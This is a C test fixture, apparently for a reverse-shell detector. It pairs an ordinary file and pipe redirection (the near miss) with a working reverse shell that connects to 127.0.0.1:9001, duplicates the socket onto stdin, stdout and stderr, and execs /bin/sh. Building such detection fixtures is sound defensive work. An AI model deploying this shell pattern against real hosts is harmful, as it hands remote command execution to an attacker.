/* Reverse-shell shape: connect to 127.0.0.1:9001 (the sandbox listener sends
 * "echo pwned-via-reverse-shell; exit"), dup2 the socket onto 0/1/2, exec sh.
 * Near miss first: a file and a pipe dup2'ed onto 1 and 0 (ordinary redirection). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    /* near miss: `echo > out.txt` style redirection of a file onto stdout */
    pid_t c = fork();
    if (c == 0) {
        int fd = open("/tmp/redirect-out.txt", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        dup2(fd, 1); close(fd);
        int p[2]; pipe(p); dup2(p[0], 0); close(p[0]); close(p[1]);
        execl("/bin/echo", "echo", "redirected", (char *)0);
        _exit(127);
    }
    waitpid(c, 0, 0);

    /* hit: socket onto 0/1/2 */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(9001) };
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
    dup2(s, 0); dup2(s, 1); dup2(s, 2);
    execl("/bin/sh", "sh", (char *)0);
    return 127;
}
